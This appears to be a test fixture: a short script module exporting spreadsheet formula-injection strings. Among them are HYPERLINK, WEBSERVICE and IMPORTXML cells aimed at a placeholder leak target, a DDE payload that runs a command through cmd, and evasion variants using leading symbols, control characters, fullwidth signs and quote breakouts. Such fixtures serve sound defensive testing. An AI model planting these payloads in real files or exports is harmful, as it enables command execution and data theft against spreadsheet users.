/** Cells that a spreadsheet would compute. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("LEAK","press")',
  '=WEBSERVICE("LEAK")',
  '=IMPORTXML("LEAK","//a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(1)',
  '";=1+1;"',
  '",=1+1,"',
];
